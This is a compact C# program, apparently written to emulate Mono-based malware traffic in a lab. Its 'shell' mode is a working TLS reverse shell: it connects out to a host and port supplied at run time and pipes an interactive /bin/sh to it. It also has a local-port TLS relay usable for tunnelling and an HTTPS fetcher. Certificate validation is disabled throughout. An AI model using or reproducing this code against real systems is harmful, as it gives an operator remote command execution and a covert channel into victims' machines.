// SPDX-License-Identifier: LGPL-2.1-or-later
// What Mono's programs do with TLS (SslStream): shell HOST PORT; get URL [PROXY]; local PORT HOST PORT, a relay.
using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Threading;

static class Sharp {
    static SslStream Open(string host, int port) {
        var client = new TcpClient(IPAddress.Parse(host).AddressFamily);
        client.Connect(IPAddress.Parse(host), port);
        var stream = new SslStream(client.GetStream(), false, (a, b, c, d) => true);
        stream.AuthenticateAsClient("lab.example");
        return stream;
    }

    static void Copy(Stream from, Stream to) {
        var data = new byte[16384];
        try {
            for (int size; (size = from.Read(data, 0, data.Length)) > 0;) { to.Write(data, 0, size); to.Flush(); }
        } catch (IOException) { }
        to.Close();
    }

    static void Shell(string host, int port) {
        var there = Open(host, port);
        var start = new ProcessStartInfo("/bin/sh", "-i") {
            UseShellExecute = false, RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true };
        var child = Process.Start(start);
        var gate = new object();
        foreach (var from in new[] { child.StandardOutput.BaseStream, child.StandardError.BaseStream }) {
            new Thread(() => {
                var data = new byte[4096];
                for (int size; (size = from.Read(data, 0, data.Length)) > 0;) lock (gate) { there.Write(data, 0, size); }
            }) { IsBackground = true }.Start();
        }
        new Thread(() => { child.WaitForExit(); Environment.Exit(0); }) { IsBackground = true }.Start();
        Copy(there, child.StandardInput.BaseStream);
    }

    static void Get(string url, string proxy) {
        ServicePointManager.Expect100Continue = false;
        ServicePointManager.ServerCertificateValidationCallback = (a, b, c, d) => true;
        foreach (var page in new[] { "", "style.css" }) {
            var asked = (HttpWebRequest)WebRequest.Create(url + page);
            if (proxy != null) asked.Proxy = new WebProxy(proxy) { BypassProxyOnLocal = false };
            using (var got = asked.GetResponse()) new StreamReader(got.GetResponseStream()).ReadToEnd();
        }
    }

    static void Local(int port, string host, int there) {
        var listener = new TcpListener(IPAddress.Loopback, port);
        listener.Start();
        while (true) {
            var caller = listener.AcceptTcpClient();
            new Thread(() => {
                var near = caller.GetStream();
                var far = Open(host, there);
                new Thread(() => Copy(far, near)).Start();
                Copy(near, far);
            }).Start();
        }
    }

    static void Main(string[] words) {
        if (words[0] == "shell") Shell(words[1], int.Parse(words[2]));
        else if (words[0] == "get") Get(words[1], words.Length > 2 ? words[2] : null);
        else Local(int.Parse(words[1]), words[2], int.Parse(words[3]));
    }
}
